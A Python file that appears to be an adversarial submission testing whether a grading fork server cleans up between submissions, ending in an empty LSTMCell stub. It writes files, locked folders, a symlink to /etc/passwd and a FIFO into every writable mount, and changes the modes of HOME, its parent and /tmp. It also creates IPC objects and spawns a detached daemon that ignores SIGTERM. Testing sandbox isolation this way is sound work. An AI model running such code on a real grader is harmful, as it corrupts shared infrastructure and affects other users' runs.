"""Tries to leave something behind for the next submission graded by the same fork server:
a daemon that keeps writing, files in every writable place (locked folders, links, a FIFO),
System V IPC objects, a POSIX message queue, changed folder modes."""
import ctypes
import json
import os
import signal
import time

from torch import nn

done = {}
libc = ctypes.CDLL(None, use_errno=True)

# Every writable mount point, found the way an attacker would.
points = set()
with open("/proc/self/mountinfo") as f:
    for line in f:
        point = line.split()[4]
        if not point.startswith(("/proc", "/sys")):
            points.add(point)
writable = sorted(p for p in points if os.path.isdir(p) and os.access(p, os.W_OK))
done["writable"] = writable
for top in writable:
    try:
        with open(os.path.join(top, "left_by_a.txt"), "w") as f:
            f.write("A was here")
        locked = os.path.join(top, "locked")
        os.makedirs(os.path.join(locked, "deep", "deeper"))
        with open(os.path.join(locked, "deep", "deeper", "secret"), "w") as f:
            f.write("x")
        os.chmod(os.path.join(locked, "deep"), 0)
        os.chmod(locked, 0)
        os.symlink("/etc/passwd", os.path.join(top, "link"))
        os.mkfifo(os.path.join(top, "fifo"))
        done[top] = "written"
    except OSError as exc:
        done[top] = f"{type(exc).__name__}: {exc}"
# Next to the grader's own mount points (the folder holding its home), which must stay.
parent = os.path.dirname(os.environ["HOME"])
try:
    with open(os.path.join(parent, "beside_home.txt"), "w") as f:
        f.write("A was here")
    os.chmod(parent, 0o777)
    done["beside home"] = "written"
except OSError as exc:
    done["beside home"] = str(exc)
for top in ("/tmp", os.environ["HOME"]):
    try:
        os.chmod(top, 0o500 if top != "/tmp" else 0o777)
    except OSError as exc:
        done[f"chmod {top}"] = str(exc)

# System V IPC: IPC_PRIVATE = 0, IPC_CREAT = 0o1000.
done["shmget"] = libc.shmget(0, 4096, 0o1000 | 0o666)
done["semget"] = libc.semget(0, 1, 0o1000 | 0o666)
done["msgget"] = libc.msgget(0, 0o1000 | 0o666)
# A POSIX message queue (O_CREAT | O_RDWR): refused by the server's RLIMIT_MSGQUEUE.
try:
    rt = ctypes.CDLL("librt.so.1", use_errno=True)
    mqd = rt.mq_open(b"/left_by_a", 0o100 | 0o2, 0o600, None)
    done["mq_open"] = mqd if mqd >= 0 else f"refused errno {ctypes.get_errno()}"
except OSError as exc:
    done["mq_open"] = f"no librt: {exc}"

# A daemon: new session, SIGTERM ignored, writing a new file every 10 ms.
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        n = 0
        while True:
            n += 1
            try:
                with open(f"/tmp/daemon_{n % 50}", "w") as f:
                    f.write(str(n))
            except OSError:
                pass
            time.sleep(0.01)
    os._exit(0)
time.sleep(0.1)
print("DONE " + json.dumps(done, sort_keys=True))


class LSTMCell(nn.Module):
    pass
